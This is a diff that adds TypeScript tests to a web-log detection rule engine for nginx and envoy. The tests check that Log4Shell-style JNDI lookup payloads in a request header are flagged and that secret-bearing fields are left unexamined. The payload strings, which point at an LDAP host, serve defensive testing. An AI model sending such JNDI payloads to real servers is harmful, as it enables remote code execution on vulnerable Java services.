@@ -78,6 +78,51 @@ test('a rule may ask for any field of the line by its name', () => {
   ]);
 });
 
+test.each<[Source, object]>([
+  [
+    'nginx',
+    { http_x_api_version: '$%7Bjndi:ldap://192.0.2.1/hunter2}', http_cookie: 'sqlmap', http_x_forwarded_for: 'sqlmap' },
+  ],
+  [
+    'envoy',
+    {
+      request_headers: {
+        'x-api-version': '${jndi:ldap://192.0.2.1/hunter2}',
+        cookie: 'sqlmap',
+        authorization: 'sqlmap',
+      },
+    },
+  ],
+])(
+  '%s: payloads in headers are recognised and stay behind, and what may hold a secret is not looked at',
+  (source, more) => {
+    const line = source === 'nginx' ? { ...NGINX, uri: '/', request_uri: '/' } : { ...ENVOY, path: '/' };
+
+    expect(rulesOf(source, { ...line, http_user_agent: 'x', user_agent: 'x' }, OWN_RULES)).toEqual([]);
+    const told = rulesOf(source, { ...line, http_user_agent: 'x', user_agent: 'x', ...more }, OWN_RULES);
+    expect(told).toContain('Java is reached into by a request');
+    expect(told).not.toContain('The agent is a scanner or an attack tool');
+  },
+);
+
+test.each<[field: string, value: string]>([
+  ['referer', 'http://localhost:3000/'],
+  ['referer', 'http://127.0.0.1:8080/orders/7'],
+  ['referer', 'https://app.example/search'],
+  ['referer', 'https://app.example/#/orders/(detail:7)'],
+  ['referer', 'android-app://com.example.orders/'],
+  ['content_type', 'application/json; charset=utf-8'],
+  ['content_type', 'multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxkTrZu0gW'],
+  ['content_type', 'application/soap+xml; charset=utf-8; action="urn:orders#get"'],
+  ['content_type', 'application/vnd.api+json;profile="https://example.com/last-modified"'],
+  ['x_api_version', '2026-01-06'],
+  ['x_api_version', '2.0; orders-api/1.0'],
+])('an ordinary %s is none: %s', (field, value) => {
+  const line = { ...NGINX, uri: '/', request_uri: '/', http_user_agent: 'x', [`http_${field}`]: value };
+
+  expect(rulesOf('nginx', line, OWN_RULES)).toEqual([]);
+});
+
 const STOPPED = {
   eventID: 'e1',
   eventTime: '2026-01-06T12:00:00Z',
